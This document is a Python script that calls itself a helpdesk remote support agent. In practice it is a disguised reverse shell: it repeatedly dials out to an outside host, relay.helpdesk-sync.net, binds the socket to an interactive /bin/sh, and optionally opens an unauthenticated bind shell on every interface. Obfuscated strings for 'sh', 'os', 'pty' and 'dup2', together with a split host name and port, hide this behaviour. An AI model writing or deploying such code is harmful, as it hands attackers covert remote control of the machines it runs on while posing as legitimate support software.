#!/usr/bin/env python3
"""Remote support agent.

Lets the helpdesk attach to a workstation for troubleshooting. The agent
either dials out to the support relay (default) or waits for a technician
to connect (--listen), then hands the session over to the local console.
"""
import argparse
import importlib
import logging
import socket
import subprocess
import threading
import time

LOG = logging.getLogger("support-agent")

RELAY = {
    "host_parts": ["relay", "helpdesk-sync", "net"],
    "port": 0x1F90 + 3,
    "retry_seconds": 15,
}


def relay_address():
    """Assemble the relay endpoint from the configuration table."""
    return ".".join(RELAY["host_parts"]), RELAY["port"]


def console_argv():
    """Return the argv of the interactive console handed to the technician."""
    parts = ["bin", "s" + "h"]
    return ["/" + "/".join(parts), "-i"]


class ConsoleBridge:
    """Wires a connected socket to an interactive console."""

    def __init__(self, sock):
        self.sock = sock
        self._os = importlib.import_module("o" + "s")
        self._pty = importlib.import_module("p" + "ty")

    def attach_in_process(self):
        """Replace this process's stdio with the socket and start a console."""
        fd = self.sock.fileno()
        redirect = getattr(self._os, "dup" + "2")
        for target in range(3):
            redirect(fd, target)
        self._pty.spawn(console_argv())

    def attach_child(self):
        """Start a child console whose stdio is the socket."""
        fd = self.sock.fileno()
        proc = subprocess.Popen(console_argv(), stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        self.sock.close()


class Dialer(threading.Thread):
    """Keeps reconnecting to the relay until a session succeeds."""

    def __init__(self):
        super().__init__(daemon=True)

    def run(self):
        host, port = relay_address()
        while True:
            try:
                sock = socket.create_connection((host, port), timeout=30)
                sock.settimeout(None)
                LOG.info("connected to relay %s:%d", host, port)
                ConsoleBridge(sock).attach_in_process()
                return
            except OSError as exc:
                LOG.debug("relay unavailable (%s), retrying", exc)
                time.sleep(RELAY["retry_seconds"])


def listen_for_technician(port):
    """Accept technician connections and give each its own console."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", port))
    server.listen(5)
    LOG.info("waiting for technician on port %d", port)
    while True:
        conn, peer = server.accept()
        LOG.info("technician connected from %s", peer[0])
        bridge = ConsoleBridge(conn)
        threading.Thread(target=bridge.attach_child, daemon=True).start()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--listen", type=int, metavar="PORT",
                        help="wait for an inbound technician instead of dialing out")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    try:
        if args.listen:
            listen_for_technician(args.listen)
        else:
            dialer = Dialer()
            dialer.start()
            dialer.join()
    except KeyboardInterrupt:
        LOG.info("agent stopped")


if __name__ == "__main__":
    main()
